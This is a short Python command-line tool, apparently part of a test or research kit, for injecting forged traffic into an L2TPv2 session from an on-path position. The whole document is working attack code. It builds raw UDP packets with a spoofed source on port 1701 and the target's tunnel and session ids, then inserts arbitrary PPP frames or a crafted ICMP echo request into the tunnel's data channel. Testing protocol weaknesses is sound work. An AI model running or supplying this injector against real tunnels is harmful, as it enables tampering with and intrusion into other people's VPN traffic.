# SPDX-License-Identifier: MIT
"""PPP frames in the data packets of an L2TPv2 session, from one who is in the middle and not its end.

  _inject.py SOURCE DESTINATION TUNNEL SESSION FRAME...   port 1701 of both; the ids are those of the destination
      FRAME   octets in hexadecimal from the protocol field on, or ping:FROM:TO, an ICMP echo request in clear
"""
import ipaddress
import socket
import struct
import sys

PORT = 1701


def checksum(octets):
    total = sum(struct.unpack(f'!{len(octets) // 2}H', octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ping(source, destination):
    echo = struct.pack('!BBHHH', 8, 0, 0, 0x6b61, 1)
    echo = echo[:2] + struct.pack('!H', checksum(echo)) + echo[4:]
    ends = ipaddress.ip_address(source).packed + ipaddress.ip_address(destination).packed
    header = struct.pack('!BBHHHBBH', 0x45, 0, 28, 0, 0, 64, socket.IPPROTO_ICMP, 0) + ends
    header = header[:10] + struct.pack('!H', checksum(header)) + header[12:]
    return b'\x00\x21' + header + echo


def frame(text):
    return ping(*text.split(':')[1:]) if text.startswith('ping:') else bytes.fromhex(text)


def main(source, destination, tunnel, session, *frames):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    sock.bind((source, 0))
    for text in frames:
        data = struct.pack('!HHH', 2, int(tunnel), int(session)) + b'\xff\x03' + frame(text)
        sock.sendto(struct.pack('!HHHH', PORT, PORT, 8 + len(data), 0) + data, (destination, 0))


main(*sys.argv[1:])
